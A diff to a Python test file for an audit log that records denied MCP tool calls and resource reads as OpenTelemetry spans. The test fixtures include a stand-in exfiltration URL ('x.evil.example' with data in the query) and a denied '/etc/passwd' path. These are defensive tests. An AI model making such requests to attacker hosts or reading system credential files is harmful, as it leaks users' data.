@@ -77,7 +77,37 @@ def test_verdicts_become_spans(tmp_path: Path) -> None:
     assert attrs["cordon.verdict"] == "deny"
     assert attrs["cordon.rule"] == "arg.path_prefix"
     assert attrs["cordon.server"] == "fs"
+    assert (attrs["mcp.method.name"], attrs["gen_ai.tool.name"]) == ("tools/call", "write_file")
     assert "/etc/passwd" not in str(attrs)  # arguments never go on spans
+
+
+def test_a_decided_client_request_is_a_span_of_its_method(tmp_path: Path) -> None:
+    sdk = pytest.importorskip("opentelemetry.sdk.trace")
+    from opentelemetry.sdk.trace.export import SimpleSpanProcessor
+    from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter
+
+    exporter = InMemorySpanExporter()
+    provider = sdk.TracerProvider()
+    provider.add_span_processor(SimpleSpanProcessor(exporter))
+    log = AuditLog(tmp_path / "a.jsonl", tracer=provider.get_tracer("test"))
+    log.start(version="0.1.0", policy_hash="0" * 64, server="docs", session="s1")
+    uri = "https://x.evil.example/page?d=notes"
+    log.write(
+        record_for_call(
+            session="s1",
+            server="docs",
+            tool="resources/read",
+            arguments={"uri": uri},
+            verdict="deny",
+            rule="taint.seen_in_output",
+            reason="seen in output",
+            method="resources/read",
+        )
+    )
+    attrs = dict(exporter.get_finished_spans()[0].attributes or {})
+    assert attrs["mcp.method.name"] == "resources/read"
+    assert "gen_ai.tool.name" not in attrs  # not a tool
+    assert uri not in str(attrs)
 
 
 def test_console_exporter_from_env(tmp_path: Path) -> None:
